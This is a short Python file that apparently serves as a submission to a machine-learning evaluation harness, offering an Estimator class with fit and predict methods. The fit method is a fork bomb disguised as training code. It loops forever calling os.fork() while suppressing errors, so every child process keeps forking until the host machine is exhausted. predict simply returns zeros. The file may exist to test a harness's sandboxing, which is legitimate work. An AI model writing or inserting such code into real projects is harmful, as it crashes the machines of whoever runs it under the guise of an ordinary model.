"""Every child forks too, and none minds a refusal."""

import contextlib
import os

import numpy as np


class Estimator:
    def fit(self, X, y):
        while True:
            with contextlib.suppress(OSError):
                os.fork()
        return self

    def predict(self, X):
        return np.zeros(len(X))


def get_estimator():
    return Estimator()
